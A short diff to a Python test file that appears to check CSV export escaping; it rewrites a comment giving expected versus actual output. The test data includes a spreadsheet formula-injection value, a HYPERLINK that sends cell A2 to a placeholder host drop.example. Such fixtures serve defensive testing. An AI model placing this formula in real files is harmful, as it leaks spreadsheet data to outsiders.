@@ -1,4 +1,4 @@
-# Line 1 should be ""\"name\",\"message\"\r\n\"wren\",\"When do you open?\"\r\n\"rook\",\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"" and is ""name,message\r\nwren,When do you open?\r\nrook,\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"".
+# Line 1: expected ""\"name\",\"message\"\r\n\"wren\",\"When do you open?\"\r\n\"rook\",\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"", got ""name,message\r\nwren,When do you open?\r\nrook,\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"".
 import csv
 import io
 import re
